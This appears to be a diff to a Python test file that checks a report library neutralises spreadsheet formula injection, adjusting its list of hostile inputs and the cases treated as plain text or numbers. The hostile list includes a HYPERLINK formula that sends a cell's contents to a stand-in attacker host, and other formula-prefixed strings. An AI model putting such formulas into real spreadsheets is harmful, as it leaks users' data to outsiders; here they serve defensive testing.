@@ -12,8 +12,9 @@ from jxtrack.reports.text import clean, neutralise, num, pp
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
-    "+1",
-    "-2",
+    "+1+1",
+    "-2+3",
+    "-A1",
     "@SUM(A1:A9)",
     "\t=1",
     "\r",
@@ -36,7 +37,9 @@ def test_hostile_text_is_neutralised(s):
         assert out.startswith("'")
 
 
-@pytest.mark.parametrize("s", ["南湖区", "受订单下滑影响", "1-10月", "80%", "a=b", "", "说明：-2 个"])
+@pytest.mark.parametrize("s", ["南湖区", "受订单下滑影响", "1-10月", "80%", "a=b", "", "说明：-2 个",
+                               # plain numbers are read as numbers, never as formulas
+                               "-2", "+1", "-10.4", "+3.5", "-1,234.5", "-2%"])
 def test_ordinary_text_is_kept(s):
     assert neutralise(s) == s
 
@@ -52,10 +55,12 @@ def test_no_hostile_string_becomes_a_formula_in_a_saved_workbook():
     for i, s in enumerate(HOSTILE, start=1):
         c = ws2.cell(row=i, column=1)
         assert c.data_type != "f", (s, c.value)
-        assert c.value is None or not str(c.value).startswith(("=", "+", "-", "@"))
-    # the visible text is still the county's text, behind the apostrophe
-    assert ws2.cell(row=1, column=1).value == "'" + HOSTILE[0]
-    assert ws2.cell(row=3, column=1).value == "'-2"
+        # a text cell holding the county's text exactly (less what XML cannot hold), no apostrophe
+        if clean(s).strip():
+            assert c.data_type == "s" and c.value == clean(s), (s, c.value)
+            assert c.quotePrefix, s  # Excel keeps it text when the cell is edited
+    assert ws2.cell(row=1, column=1).value == HOSTILE[0]
+    assert ws2.cell(row=3, column=1).value == "-2+3"
 
 
 def test_numbers_stay_numbers():
